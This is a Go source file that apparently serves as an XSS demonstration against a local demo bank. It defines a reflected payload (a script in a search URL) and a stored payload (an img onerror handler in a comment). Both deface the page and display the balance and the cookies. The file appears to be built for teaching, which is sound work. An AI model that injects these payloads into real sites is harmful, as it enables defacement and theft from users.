package demo

import "net/url"

// DefacedID is the id of the red banner that both payloads put at the top of
// the page. A page has this element if and only if an attacker's script ran.
const DefacedID = "defaced"

// DefacedTitle is the document's title after an attacker's script ran.
const DefacedTitle = "pwned"

// deface is what the payloads run. It needs no network, and takes its loot from
// the page: the session cookie is HttpOnly, and a script inside the page has no
// use for it. It avoids the double quote, so that it fits into an attribute.
const deface = `if(!document.getElementById('` + DefacedID + `')){` +
	`var b=document.createElement('div'),m=document.getElementById('balance');` +
	`b.id='` + DefacedID + `';` +
	`b.textContent='The attacker’s script ran. Balance stolen: '+(m?m.textContent:'(nobody is logged in)')` +
	`+'. Cookie: '+(document.cookie||'HttpOnly, out of reach, and not needed')+'.';` +
	`b.style.cssText='background:#c4161c;color:#fff;padding:20px 24px;font:bold 20px/1.4 sans-serif;text-align:center';` +
	`document.body.prepend(b);document.title='` + DefacedTitle + `'}`

// ReflectedPayload is the search that an attacker's link carries: a harmless word
// and an inline script. See [ReflectedURL].
const ReflectedPayload = `mortgage<script>` + deface + `</script>`

// StoredPayload is the comment that the attacker plants: an image that cannot
// load, with an inline event handler.
const StoredPayload = `Lovely bank! <img src=x alt="" onerror="` + deface + `">`

// ReflectedURL is the link to ReflectedPayload on the bank at the given base
// URL, such as http://127.0.0.1:8081.
func ReflectedURL(bank string) string {
	return bank + "/search?" + url.Values{"q": {ReflectedPayload}}.Encode()
}
